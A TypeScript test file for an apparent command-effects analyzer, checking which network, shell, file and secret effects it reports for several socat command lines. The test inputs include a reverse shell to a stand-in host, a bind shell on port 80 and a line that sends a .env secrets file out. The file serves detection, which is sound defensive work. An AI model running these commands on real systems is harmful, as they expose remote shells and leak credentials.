import { testEffects } from "../../../support/effects-of.ts";

testEffects("socat", [
  {
    run: "socat - TCP:h.example:80",
    effects: ["output … {network h.example:80}", "connect h.example:80 sends …"],
  },
  {
    run: "socat TCP:h.example:80 EXEC:/bin/sh",
    effects: [
      "connect h.example:80 for shell",
      "code shell … {network h.example:80}",
      "output … {network h.example:80}",
    ],
  },
  {
    run: "socat TCP-LISTEN:80,fork EXEC:/bin/bash",
    effects: [
      "listen offers=shell",
      "code shell … {network 80,fork}",
      "output … {network 80,fork}",
    ],
  },
  {
    run: "socat TCP-LISTEN:80,fork TCP:db.example:5432",
    effects: ["listen offers=relay", "connect db.example:5432 sends … {network 80,fork}"],
  },
  {
    run: "socat TCP-LISTEN:80,bind=127.0.0.1 TCP:db.example:5432",
    effects: [
      "listen offers=application address=127.0.0.1",
      "connect db.example:5432 sends … {network 80,bind=127.0.0.1}",
    ],
  },
  {
    run: "socat -u FILE:.env TCP:h.example:80",
    effects: ["read used /home/dev/project/.env", "connect h.example:80 sends … {secret .env}"],
  },
  { run: "socat EXEC:'touch x' -", effects: ['write create /home/dev/project/x = ""'] },
  {
    run: 'socat "$(cat a)" -',
    effects: [
      "read flows /home/dev/project/a",
      "opaque socat: an argument may be an option: a cannot be read",
      "opaque socat: an address of socat is not known",
    ],
  },
]);
